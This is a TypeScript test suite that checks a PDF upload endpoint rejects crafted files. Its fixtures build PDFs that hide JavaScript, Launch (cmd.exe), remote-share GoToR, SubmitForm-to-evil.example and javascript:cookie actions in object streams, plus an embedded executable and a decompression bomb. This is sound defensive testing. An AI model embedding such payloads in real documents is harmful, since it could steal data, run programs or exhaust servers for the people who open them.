/**
 * PDF uploads are parsed (pdf-lib) and walked object by object, those inside compressed object streams included: the
 * byte scan alone accepted anything starting with %PDF- and saw no action hidden in an object stream. Every file here
 * is built with pdf-lib and sent through the upload API; refusals write nothing.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { CLIENT_ID } from '@jz/contracts/auth';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, envelopeOf, loginAs, PHONES, type TestApp } from '../helpers/index.ts';

let t: TestApp;
let dataDir: string;
let owner: string;

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'jz-pdf-'));
  t = await buildTestApp({ env: { DATA_DIR: dataDir } });
  owner = await loginAs(t.app, PHONES.ownerA);
});
afterAll(async () => {
  await t?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

async function upload(data: Buffer, filename = 'contract.pdf') {
  const boundary = `----jzpdf${randomBytes(6).toString('hex')}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="rootPath"\r\n\r\nagreement\r\n`),
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/pdf\r\n\r\n`,
    ),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const res = await t.app.inject({
    method: 'POST',
    url: '/tmpl/api/com/file/up',
    headers: {
      client: CLIENT_ID,
      authorization: `Bearer ${owner}`,
      'content-type': `multipart/form-data; boundary=${boundary}`,
    },
    payload,
  });
  return envelopeOf<{ url: string; type: string }>(res);
}

const written = () => readdirSync(dataDir, { recursive: true }).length;
const resources = async () =>
  Number(
    (
      await t.db
        .selectFrom('resource')
        .select((e) => e.fn.countAll().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

/** A one-page PDF as pdf-lib writes it: every object but the page tree and catalog inside a compressed object stream. */
async function pdf(build?: (doc: PDFDocument) => void) {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  build?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** An action as its own indirect object (so it lands in the object stream), opened with the document. */
const openAction = (entries: Record<string, unknown>) => (doc: PDFDocument) => {
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(doc.context.obj(entries as never)));
};

/** True when the raw bytes show none of the words: the action is only visible to a parser. */
const hidden = (data: Buffer, ...words: string[]) => words.every((w) => !data.toString('latin1').includes(w));

const SCRIPT = '文件内容无效：PDF 中含有脚本或启动程序的动作，已拒绝上传';
const SUBMIT = '文件内容无效：PDF 中含有提交或导入表单数据的动作，已拒绝上传';

describe('PDF uploads are parsed, object streams included', () => {
  it('a plain PDF (compressed object streams), one with a web link and one with a mail link are stored', async () => {
    const before = await resources();
    const plain = await pdf();
    expect(plain.toString('latin1')).toContain('/ObjStm');
    for (const data of [
      plain,
      await pdf(openAction({ S: 'URI', URI: PDFString.of('https://www.example.com/terms') })),
      await pdf(openAction({ S: 'URI', URI: PDFString.of('mailto:service@example.com') })),
    ]) {
      const r = await upload(data);
      expect(r, r.message).toMatchObject({ code: 200, result: { type: 'pdf' } });
    }
    expect(await resources()).toBe(before + 3);
  });

  it.each([
    [
      'JavaScript open action',
      openAction({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      SCRIPT,
      ['JavaScript', '/JS'],
    ],
    ['Launch action', openAction({ S: 'Launch', F: PDFString.of('cmd.exe') }), SCRIPT, ['Launch', 'cmd.exe']],
    [
      'GoToR to a remote share',
      openAction({ S: 'GoToR', F: PDFString.of('\\\\attacker\\share\\a.pdf') }),
      SCRIPT,
      ['GoToR'],
    ],
    [
      'SubmitForm action',
      openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example/c') }),
      SUBMIT,
      ['SubmitForm'],
    ],
    ['ImportData action', openAction({ S: 'ImportData', F: PDFString.of('data.fdf') }), SUBMIT, ['ImportData']],
    [
      'javascript: link',
      openAction({ S: 'URI', URI: PDFString.of('javascript:alert(document.cookie)') }),
      '文件内容无效：PDF 中含有非网页链接（只允许 http、https、mailto 链接），已拒绝上传',
      ['javascript:'],
    ],
    [
      'document-level script in the name tree',
      (doc: PDFDocument) => {
        const js = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.print()') }));
        const names = doc.context.obj({ Names: [PDFString.of('init'), js] });
        doc.catalog.set(PDFName.of('Names'), doc.context.register(doc.context.obj({ JavaScript: names })));
      },
      SCRIPT,
      ['JavaScript'],
    ],
  ])('refuses a %s hidden in an object stream', async (_, build, message, words) => {
    const data = await pdf(build);
    // The byte scan of the upload cannot see it: only the parse can.
    expect(hidden(data, ...words)).toBe(true);
    const files = written();
    const rows = await resources();
    expect(await upload(data)).toMatchObject({ code: 2001, message, result: null });
    expect(written()).toBe(files);
    expect(await resources()).toBe(rows);
  });

  it('refuses an embedded file (an attachment would pass no upload check of its own)', async () => {
    const data = await pdf((doc) => {
      void doc.attach(Buffer.from('MZ fake program'), 'setup.exe', { mimeType: 'application/octet-stream' });
    });
    expect(await upload(data)).toMatchObject({
      code: 2001,
      message: '文件内容无效：PDF 中嵌入了附件或多媒体内容，已拒绝上传',
    });
  });

  it('refuses plain text, or a broken file, that only starts with %PDF-', async () => {
    const damaged = '文件内容无效：PDF 文件已损坏或不是有效的 PDF，请重新导出后上传';
    const plain = await pdf();
    for (const data of [
      Buffer.from('%PDF-1.7\n这只是一段文字，不是 PDF。\n'),
      Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'),
      // A valid head cut before its page tree and catalog.
      plain.subarray(0, 40),
    ]) {
      expect(await upload(data, 'notes.pdf')).toMatchObject({ code: 2001, message: damaged });
    }
  });

  it('refuses an encrypted PDF, with a password to open it or only a permissions password', async () => {
    for (const options of [{ userPassword: 'open', ownerPassword: 'owner' }, { ownerPassword: 'owner' }]) {
      const data = await pdf((doc) => doc.encrypt(options));
      expect(await upload(data, 'locked.pdf')).toMatchObject({
        code: 2001,
        message: '文件内容无效：PDF 已加密（设置了密码或权限），无法检查其内容，请另存为未加密的 PDF 后上传',
      });
    }
  });

  it('refuses an object stream that inflates past the bound (100 MB from 100 KB) without inflating it', async () => {
    const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20));
    const data = Buffer.concat([
      Buffer.from(`%PDF-1.5\n1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>>\nstream\n`),
      bomb,
      Buffer.from('\nendstream\nendobj\ntrailer <<>>\n%%EOF\n'),
    ]);
    const started = Date.now();
    expect(await upload(data, 'big.pdf')).toMatchObject({
      code: 2001,
      message: '文件内容无效：PDF 结构过于复杂（对象过多或解压后过大），请压缩或拆分后上传',
    });
    expect(Date.now() - started).toBeLessThan(5000);
  });
});
